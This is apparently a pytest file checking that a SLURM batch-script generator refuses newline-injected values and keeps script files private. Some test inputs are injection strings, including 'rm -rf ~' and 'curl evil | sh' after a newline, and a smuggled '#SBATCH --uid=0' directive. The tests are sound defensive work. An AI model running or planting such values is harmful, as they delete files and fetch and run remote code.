"""`rpcctl sbatch` without a cluster: the batch script's text, read back as sbatch and bash read
it, and the file's life around a submission (`sbatch` itself is the one faked edge: a script
first on PATH). The real-SLURM tests are in tests/test_slurm.py (marker slurm)."""

from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path

import pytest

from rpcctl.base.errors import UsageError
from rpcctl.schedulers.slurm import batch_script
from conftest import rpcctl, write_config

pytestmark = pytest.mark.timeout(60)


def _script(runs_dir: Path = Path("/tmp/runs"), **flags) -> str:
    keys = {"partition": None, "time_limit": None, "extra_sbatch": [], "overrides": [], **flags}
    return batch_script(
        config=Path("/tmp/job.yaml"), name="job", nodes=2, runs_dir=runs_dir, python="/usr/bin/python3", **keys
    )


def _sbatch_words(line: str) -> list[str]:
    """The words sbatch reads from one #SBATCH line: src/sbatch/opt.c, _get_argument (white
    space splits, quotes group, a backslash escapes the next character, an unquoted # ends it)."""
    words, i, rest = [], 0, line.removeprefix("#SBATCH")
    while True:
        while i < len(rest) and rest[i].isspace():
            i += 1
        if i >= len(rest):
            return words
        word, quote, escaped = "", "", False
        while i < len(rest) and (quote or not rest[i].isspace()):
            c = rest[i]
            i += 1
            if escaped:
                escaped = False
            elif c == "\\":
                escaped = True
                continue
            elif quote:
                if c == quote:
                    quote = ""
                    continue
            elif c in "\"'":
                quote = c
                continue
            elif c == "#":
                return words + ([word] if word else [])
            word += c
        assert not quote, f"unmatched quote: sbatch refuses {line!r}"
        words.append(word)


def _directives(script: str) -> list[list[str]]:
    """What sbatch takes from the script: the #SBATCH lines before the first other command."""
    found = []
    for line in script.splitlines()[1:]:
        if line.startswith("#SBATCH"):
            found.append(_sbatch_words(line))
        elif line.strip() and not line.startswith("#"):
            break
    return found


@pytest.mark.parametrize(
    ("flag", "keys"),
    [
        ("--partition", {"partition": "gpu\nrm -rf ~"}),
        ("--time", {"time_limit": "1:00:00\r"}),
        ("--sbatch-arg", {"extra_sbatch": ["--gpus-per-node=8\n#SBATCH --uid=0"]}),
        ("--sbatch-arg", {"extra_sbatch": ["--comment=\x1b]0;title\x07"]}),
        ("--runs-dir", {"runs_dir": Path("/tmp/runs\ncurl evil | sh")}),
    ],
)
def test_a_value_that_cannot_be_a_directive_is_refused_naming_its_flag(flag, keys):
    with pytest.raises(UsageError, match=f"^{flag} ") as refused:
        _script(**keys)
    assert "cannot be in an #SBATCH directive" in str(refused.value)


def test_values_with_spaces_hashes_quotes_and_percents_are_read_back_whole():
    runs = Path("/tmp/my runs #1/100%'\"x")
    script = _script(
        runs,
        partition="gpu debug",
        time_limit="1:00:00",
        extra_sbatch=["-A acct", "--comment='a # b'", "--gpus-per-node=8"],
    )
    assert _directives(script) == [
        ["--job-name=job"],
        ["--nodes=2"],
        ["--ntasks-per-node=1"],
        [f"--output={str(runs).replace('%', '%%')}/slurm-%j.out"],  # sbatch's %% is one %
        ["--partition=gpu debug"],
        ["--time=1:00:00"],
        ["-A", "acct"],
        ["--comment=a # b"],
        ["--gpus-per-node=8"],
    ]
    assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0
    # What the shell runs names the runs directory whole.
    assert f"mkdir -p {__import__('shlex').quote(str(runs))}" in script.splitlines()


def test_the_cli_refuses_before_writing_anything(tmp_path):
    config = write_config(tmp_path)
    runs = tmp_path / "runs"
    result = rpcctl("sbatch", str(config), "--partition", "gpu\nid", "--runs-dir", str(runs))
    assert result.returncode == 2, result.stderr
    assert (
        result.stderr.startswith("error: --partition 'gpu\\nid': a newline") and len(result.stderr.splitlines()) == 1
    ), result.stderr
    assert not runs.exists()


def _fake_sbatch(tmp_path: Path, body: str) -> dict[str, str]:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    fake = bin_dir / "sbatch"
    fake.write_text(f"#!/bin/sh\n{body}\n")
    fake.chmod(0o755)
    return {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}"}


def test_the_script_is_private_and_removed_when_submission_fails(tmp_path):
    config = write_config(tmp_path)
    runs = tmp_path / "runs"
    seen = tmp_path / "mode"
    env = _fake_sbatch(tmp_path, f'stat -c %a "$2" > {seen}\necho 4242')  # called as: sbatch --parsable SCRIPT
    ok = rpcctl("sbatch", str(config), "--set", "env={TOKEN: s3cret}", "--runs-dir", str(runs), env=env)
    assert ok.returncode == 0, ok.stderr
    assert ok.stdout.strip() == "4242" and seen.read_text().strip() == "600"
    (script,) = runs.glob("sbatch-*.sh")
    assert stat.S_IMODE(script.stat().st_mode) == 0o600
    script.unlink()
    script.with_suffix(".json").unlink()

    env = _fake_sbatch(tmp_path, "echo 'sbatch: error: invalid partition' >&2\nexit 1")
    failed = rpcctl("sbatch", str(config), "--runs-dir", str(runs), env=env)
    assert failed.returncode == 1 and "invalid partition" in failed.stderr, failed.stderr
    assert list(runs.glob("sbatch-*")) == []
